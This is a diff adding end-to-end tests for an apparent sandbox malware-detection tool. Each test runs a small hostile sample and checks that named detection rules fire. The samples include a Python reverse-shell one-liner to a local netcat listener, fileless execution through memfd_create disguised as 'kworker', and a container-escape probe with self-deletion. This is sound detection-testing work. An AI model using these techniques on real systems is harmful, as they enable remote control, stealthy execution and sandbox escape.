@@ -1,0 +1,57 @@
+// The rule pack end to end: small hostile samples detonated in the real sandbox (runc, eBPF
+// capture, semantics) must produce the findings their behaviour calls for.
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { chmod, mkdtemp, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { analyze } from '../../src/analyze.js';
+
+async function detonate(name: string, body: string): Promise<Set<string>> {
+  assert.equal(process.getuid?.(), 0, 'the sandbox needs root; run the tests as root after make setup');
+  const dir = await mkdtemp(join(tmpdir(), `sandtrace-live-${name}-`));
+  const sample = join(dir, name);
+  await writeFile(sample, body);
+  await chmod(sample, 0o755);
+  const { report } = await analyze({ sample, outDir: join(dir, 'out'), timeout: 30 });
+  assert.equal(report.analysis.status, 'completed', JSON.stringify(report.analysis.errors));
+  return new Set(report.findings.map((f) => f.rule));
+}
+
+const has = (got: Set<string>, ...ids: string[]) => {
+  for (const id of ids) assert.ok(got.has(id), `${id} missing; found ${[...got].join(', ')}`);
+};
+
+test('reverse shell over loopback: socket on stdin/stdout, then a shell', { timeout: 120_000 }, async () => {
+  has(await detonate('revshell.sh', [
+    '#!/bin/sh',
+    '(sleep 3 | nc -l -p 4444 >/dev/null 2>&1 &)',
+    'sleep 0.5',
+    `python3 -c 'import socket,os;s=socket.socket();s.connect(("127.0.0.1",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.execv("/bin/sh",["sh","-c","id"])'`,
+    '',
+  ].join('\n')), 'ST-EXE-011', 'ST-EXE-010', 'ST-EXE-002', 'ST-C2-008');
+});
+
+test('fileless execution: memfd_create, then exec of the memory file in a child', { timeout: 120_000 }, async () => {
+  has(await detonate('fileless.py', [
+    '#!/usr/bin/env python3',
+    'import os',
+    "fd = os.memfd_create('payload')",
+    "os.write(fd, open('/bin/true', 'rb').read())",
+    'pid = os.fork()',
+    'if pid == 0:',
+    "    os.execv(f'/proc/self/fd/{fd}', ['kworker'])",
+    'os.waitpid(pid, 0)',
+    '',
+  ].join('\n')), 'ST-EXE-006', 'ST-EXE-007');
+});
+
+test('namespace escape attempts denied by seccomp are still findings; the script deletes itself', { timeout: 120_000 }, async () => {
+  has(await detonate('escape.sh', [
+    '#!/bin/sh',
+    'unshare -U -r true 2>/dev/null',
+    'cat /proc/1/root/etc/hostname 2>/dev/null',
+    'rm -f "$0"',
+    '',
+  ].join('\n')), 'ST-ESC-002', 'ST-ESC-009', 'ST-ESC-011', 'ST-ESC-004', 'ST-DEF-008');
+});
